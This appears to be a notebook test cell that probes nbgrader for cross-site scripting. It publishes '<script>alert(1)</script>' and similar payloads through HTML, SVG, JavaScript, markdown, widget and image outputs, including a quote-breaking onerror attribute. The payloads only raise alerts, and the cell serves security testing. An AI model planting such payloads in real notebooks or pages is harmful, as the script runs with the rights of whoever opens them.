"""Shows HTML, SVG, JavaScript, and a picture whose text breaks out of its quotation marks.

Would run in the browser of whoever opens the graded notebook or its page, with that person's rights.

Plain nbgrader: its page has the script.
"""

# %%
evil = "<script>alert(1)</script>"
publish = get_ipython().display_pub.publish
publish({"text/html": evil})
publish({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{evil}</svg>"})
publish({"application/javascript": "alert(1)"})
publish({"text/markdown": evil, "text/latex": evil})
publish({"application/vnd.jupyter.widget-view+json": {"model_id": evil, "version_major": 2}})
publish({"image/png": 'AAAA" onerror="alert(1)" x="'})
publish({"image/jpeg": 'AAAA"><script>alert(1)</script>'})
publish({"text/plain": evil})
print(evil)
raise ValueError(evil)
